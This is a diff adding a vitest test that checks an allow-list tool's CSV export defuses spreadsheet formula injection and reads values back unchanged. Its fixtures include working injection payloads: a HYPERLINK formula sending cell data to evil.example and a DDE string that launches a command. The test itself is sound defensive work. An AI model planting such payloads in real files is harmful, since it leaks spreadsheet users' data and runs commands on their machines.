@@ -1,6 +1,7 @@
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { InputError } from '../errors';
 import {
@@ -116,6 +117,23 @@ describe('allow-list files', () => {
     expect(() => parseAllowList('r.csv', 'kind,pattern,reason\ndomain,exa mple.com,x\n')).toThrow(
       /line 2, field pattern: .*not a domain/,
     );
+  });
+
+  it('CSV export defuses cells a spreadsheet would run as formulas, and reads them back unchanged', () => {
+    const hostile: AllowListRule[] = [
+      { kind: 'ip', pattern: '10.0.0.2', reason: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
+      { kind: 'ip', pattern: '10.0.0.3', reason: "+1+cmd|' /C calc'!A0" },
+      { kind: 'ip', pattern: '10.0.0.4', reason: '-2+3' },
+      { kind: 'ip', pattern: '10.0.0.5', reason: '@SUM(1,2)' },
+      { kind: 'ip', pattern: '10.0.0.6', reason: '\t=1' },
+      { kind: 'ip', pattern: '10.0.0.7', reason: '\r=1' },
+      { kind: 'ip', pattern: '10.0.0.8', reason: "'=already quoted" },
+      { kind: 'ip', pattern: '10.0.0.9', reason: "it's fine" },
+    ];
+    const text = exportAllowList(hostile, 'csv');
+    const cells = (parseCsv(text) as string[][]).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(parseAllowList('rules.csv', text)).toEqual(hostile);
   });
 
   it('writes a file the analyst can read: one JSON rule per line', () => {
